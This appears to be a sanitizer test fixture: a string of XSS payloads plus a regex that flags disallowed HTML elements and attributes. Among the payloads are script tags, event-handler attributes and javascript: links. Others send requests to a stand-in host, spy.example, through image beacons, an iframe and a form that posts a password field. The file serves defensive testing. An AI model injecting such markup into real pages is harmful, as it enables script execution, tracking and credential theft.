/** What runs, loads, moves or lies. */
export const evil = [
  '<script>alert(1)</script><style>body{display:none}</style>',
  '<img src="https://spy.example/1.png"><img src=x onerror="alert(1)"><img src="data:image/png;base64,AAAA">',
  '<a href="javascript:alert(1)" onclick="alert(1)">go</a><a href="//spy.example">there</a>',
  '<iframe src="https://spy.example"></iframe><object data="x"></object><svg onload="alert(1)"><a/></svg>',
  '<p style="position:fixed;background:url(https://spy.example)" class="x" id="root">over</p>',
  '<form action="https://spy.example"><input name="password"></form><math><mtext><script>1</script></mtext></math>',
  '<span data-latex="\\href{javascript:alert(1)}{x}"><img src=x onerror="alert(1)"><script>1</script></span>',
  '<div data-latex="&quot;><script>alert(1)</script>">x</div><span data-latex="x" onmouseover="alert(1)">y</span>',
].join('')
/** An element or attribute that may not stand in a clean text. */
export const harm =
  /<(?!\/?(?:p|br|div|h[2-4]|blockquote|pre|hr|b|strong|i|em|u|s|su[bp]|code|mark|span|[uo]l|li|a|table|thead|tbody|t[rhd]|img)[\s>])|<[^<>]*\s(?!style=|data-latex=|data-file=|alt=|src="\/|href="https?:|rel=|target=|class="language-)[a-z-]+=/i
